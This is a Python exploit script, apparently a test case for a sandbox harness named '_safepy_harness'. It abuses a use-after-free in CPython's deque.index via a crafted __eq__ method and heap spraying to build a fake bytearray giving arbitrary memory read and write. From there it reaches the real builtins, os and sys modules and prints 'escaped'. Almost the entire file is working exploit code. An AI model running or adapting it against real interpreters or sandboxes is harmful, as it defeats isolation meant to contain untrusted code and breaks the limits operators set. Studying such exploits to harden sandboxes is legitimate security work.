# technique: deque.index(v): deque_index_impl passes the deque's item to PyObject_RichCompareBool borrowed; the item's __eq__ clears the deque and `del self` frees it, a bytearray buffer refills its 96-byte block with a fake bytearray-subclass header, then do_richcompare calls v's reflected __eq__ with the freed item -> fake bytearray (ob_bytes 0, size 2**60) -> arbitrary R/W -> real builtins/os/sys
# expect: any
import collections
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
got = []
class BA(bytearray):
    pass
# 96-byte block = PyGC_Head(16) + E1 object; the fake PyByteArrayObject starts at +16
fake = bytes(16) + (1 << 40).to_bytes(8, "little") + addr(BA).to_bytes(8, "little") + (1 << 60).to_bytes(8, "little") * 2 + bytes(40)
fake = fake + b"\x00" * (95 - len(fake))
spray = []
class E1:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")   # 16 + 16 + 64 = 96-byte GC block
    def __eq__(self, other):
        dq.clear()
        del self                    # last reference: freed while deque_index still holds it borrowed
        for _ in range(200):
            spray.append(bytearray(fake))
        return NotImplemented       # -> reflected V.__eq__(v, <freed item>)
class V:
    def __eq__(self, other):
        got.append(other)
        return False
dq = collections.deque([E1(), E1(), E1()])
try:
    dq.index(V())
except Exception as e:
    print("index raised:", type(e).__name__, e)
W = got[0]
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
